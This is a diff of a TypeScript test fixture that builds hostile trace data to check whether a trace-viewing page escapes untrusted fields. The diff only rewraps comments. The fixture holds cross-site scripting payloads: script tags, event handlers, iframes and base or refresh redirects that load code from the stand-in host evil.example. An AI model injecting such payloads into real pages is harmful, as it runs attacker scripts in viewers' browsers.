@@ -1,4 +1,5 @@
-// Traces as somebody would send them who wants to break the page of whoever looks: one nasty text in every place that a sender can fill.
+// Traces as somebody would send them who wants to break the page of whoever looks: one nasty text in every place that a
+// sender can fill.
 import { randomBytes } from 'node:crypto';
 import { traceOf } from './otlp.ts';
 
@@ -6,7 +7,9 @@ const REMOTE = 'https://evil.example';
 /** What runs, wherever it runs, can be seen afterwards. */
 const RUN = 'globalThis.owned=1,document.title=`owned`,alert(1)';
 
-/** Each is the name, model, tool, agent, session, user, tag, key, argument, result and thought of a trace of its own. */
+/**
+ * Each is the name, model, tool, agent, session, user, tag, key, argument, result and thought of a trace of its own.
+ */
 export const NASTY: Readonly<Record<string, string>> = {
   markup: `evil.example </script><script src="${REMOTE}/x.js"></script><script>${RUN}</script><img src="${REMOTE}/a.png" onerror="${RUN}"><svg onload="${RUN}">`,
   frames: `evil.example <iframe src="${REMOTE}"></iframe><link rel=stylesheet href="${REMOTE}/x.css"><base href="${REMOTE}"><meta http-equiv=refresh content="0;url=${REMOTE}">`,
